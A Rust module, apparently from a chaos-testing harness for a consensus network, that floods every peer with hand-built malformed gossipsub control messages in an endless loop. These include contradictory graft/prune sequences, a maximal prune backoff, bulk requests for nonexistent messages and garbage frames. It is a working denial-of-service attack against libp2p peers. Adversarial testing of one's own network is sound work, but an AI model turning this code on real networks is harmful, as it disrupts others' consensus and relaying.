//! Attacks on the relaying of consensus messages: gossipsub's control messages, written
//! by hand, on a swarm that knows nothing of gossipsub. Nobody would send them so: they
//! graft after a prune, prune for longer than time lasts, and offer and want messages
//! that nobody has.

use std::io;
use std::time::Duration;

use anyhow::Result;
use async_trait::async_trait;
use futures::{AsyncRead, AsyncWrite, AsyncWriteExt, StreamExt};
use libp2p::request_response::{self, ProtocolSupport};
use libp2p::swarm::SwarmEvent;
use libp2p::swarm::dial_opts::DialOpts;
use libp2p::{PeerId, StreamProtocol, Swarm, SwarmBuilder, noise, tcp, yamux};
use tokio::time::{MissedTickBehavior, interval, sleep};

use crate::member::Member;

const PROTOCOL: StreamProtocol = StreamProtocol::new("/meshsub/1.1.0");
const TOPICS: [&str; 3] = ["/consensus", "/proposal_parts", "/liveness"];
/// Streams on one connection: gossipsub takes five.
const STREAMS: usize = 5;
/// Between two of them.
const PAUSE: Duration = Duration::from_millis(200);
/// Entries of each kind in a stream.
const ENTRIES: u64 = 500;

/// Disturbs all others, one connection after the other.
pub async fn disorder(member: &Member, intensity: u32) -> Result<()> {
    let mut counter = 0;
    loop {
        let mut swarm = swarm(member)?;
        for peer in &member.peers {
            let address = peer.tcp.parse()?;
            let to = DialOpts::peer_id(peer.id.parse()?).addresses(vec![address]);
            // One that is down is dialled on the next visit.
            let _ = swarm.dial(to.build());
        }
        visit(&mut swarm, intensity, &mut counter).await;
        drop(swarm);
        sleep(PAUSE).await;
    }
}

async fn visit(swarm: &mut Swarm<Behaviour>, intensity: u32, counter: &mut u64) {
    let mut ticks = interval(PAUSE);
    ticks.set_missed_tick_behavior(MissedTickBehavior::Delay);
    let mut streams = 0;
    while streams < STREAMS {
        tokio::select! {
            event = swarm.select_next_some() => {
                if let SwarmEvent::ConnectionEstablished { peer_id, .. } = event {
                    swarm.behaviour_mut().send_request(&peer_id, membership(true));
                }
            }
            _ = ticks.tick() => {
                streams += 1;
                let peers: Vec<PeerId> = swarm.connected_peers().copied().collect();
                for peer in peers {
                    let bytes: Vec<u8> =
                        (0..intensity).flat_map(|_| disorderly(counter)).collect();
                    swarm.behaviour_mut().send_request(&peer, bytes);
                }
            }
        }
    }
}

/// Everything in one stream; what cannot be read comes last.
fn disorderly(counter: &mut u64) -> Vec<u8> {
    let mut ids = |count: u64| -> Vec<Vec<u8>> {
        (0..count)
            .map(|_| {
                *counter += 1;
                counter.to_be_bytes().repeat(3)
            })
            .collect()
    };
    let graft = |topic: &str| field(3, &field(1, topic.as_bytes()));
    let mut frames = membership(true);
    for topic in TOPICS {
        let name = field(1, topic.as_bytes());
        let strangers = field(2, &field(1, &[0xee; 38])).repeat(64);
        // Longer than a clock can say.
        let prune = field(4, &[name.clone(), strangers, number(3, u64::MAX)].concat());
        let offered: Vec<u8> = ids(ENTRIES).iter().flat_map(|id| field(2, id)).collect();
        for control in [
            graft(topic),
            prune.clone(),
            graft(topic),
            [prune, graft(topic)].concat().repeat(20),
            field(1, &[name, offered].concat()),
        ] {
            frames.extend(frame(&field(3, &control)));
        }
    }
    let wanted: Vec<u8> = ids(ENTRIES).iter().flat_map(|id| field(1, id)).collect();
    let again = field(1, &[7; 24]).repeat(ENTRIES as usize);
    let unknown: Vec<u8> = ids(ENTRIES).iter().flat_map(|id| field(3, &field(1, id))).collect();
    for control in [field(2, &wanted), field(2, &again), field(5, &wanted), unknown] {
        frames.extend(frame(&field(3, &control)));
    }
    for id in ids(20) {
        let unsigned = [field(1, &[0xee; 38]), field(2, &id), field(4, TOPICS[0].as_bytes())];
        frames.extend(frame(&field(2, &unsigned.concat())));
    }
    frames.extend(membership(false));
    frames.extend(frame(&[0xff; 40]));
    frames
}

/// Takes part in all topics, or no more.
fn membership(takes_part: bool) -> Vec<u8> {
    let topic = |topic: &&str| {
        let about = [number(1, takes_part.into()), field(2, topic.as_bytes())].concat();
        field(1, &about)
    };
    frame(&TOPICS.iter().flat_map(topic).collect::<Vec<u8>>())
}

/// A message with its length, as gossipsub reads it.
fn frame(message: &[u8]) -> Vec<u8> {
    [varint(message.len() as u64), message.to_vec()].concat()
}

/// A field of protobuf that holds bytes.
fn field(tag: u8, bytes: &[u8]) -> Vec<u8> {
    [vec![tag << 3 | 2], varint(bytes.len() as u64), bytes.to_vec()].concat()
}

/// A field of protobuf that holds a number.
fn number(tag: u8, value: u64) -> Vec<u8> {
    [vec![tag << 3], varint(value)].concat()
}

fn varint(mut value: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    while value >= 0x80 {
        bytes.push(value as u8 | 0x80);
        value >>= 7;
    }
    bytes.push(value as u8);
    bytes
}

type Behaviour = request_response::Behaviour<Frames>;

fn swarm(member: &Member) -> Result<Swarm<Behaviour>> {
    let behaviour = |_: &libp2p::identity::Keypair| {
        let protocols = [(PROTOCOL, ProtocolSupport::Full)];
        Behaviour::with_codec(Frames, protocols, request_response::Config::default())
    };
    Ok(SwarmBuilder::with_existing_identity(member.network.clone())
        .with_tokio()
        .with_tcp(tcp::Config::new(), noise::Config::new, yamux::Config::default)?
        .with_behaviour(behaviour)?
        .build())
}

/// Writes what it is given, and throws away what it reads.
#[derive(Clone)]
struct Frames;

#[async_trait]
impl request_response::Codec for Frames {
    type Protocol = StreamProtocol;
    type Request = Vec<u8>;
    type Response = ();

    async fn read_request<T>(&mut self, _: &StreamProtocol, io: &mut T) -> io::Result<Vec<u8>>
    where
        T: AsyncRead + Unpin + Send,
    {
        futures::io::copy(io, &mut futures::io::sink()).await?;
        Ok(Vec::new())
    }

    async fn read_response<T>(&mut self, protocol: &StreamProtocol, io: &mut T) -> io::Result<()>
    where
        T: AsyncRead + Unpin + Send,
    {
        self.read_request(protocol, io).await.map(drop)
    }

    async fn write_request<T>(
        &mut self,
        _: &StreamProtocol,
        io: &mut T,
        bytes: Vec<u8>,
    ) -> io::Result<()>
    where
        T: AsyncWrite + Unpin + Send,
    {
        io.write_all(&bytes).await
    }

    async fn write_response<T>(&mut self, _: &StreamProtocol, _: &mut T, (): ()) -> io::Result<()>
    where
        T: AsyncWrite + Unpin + Send,
    {
        Ok(())
    }
}
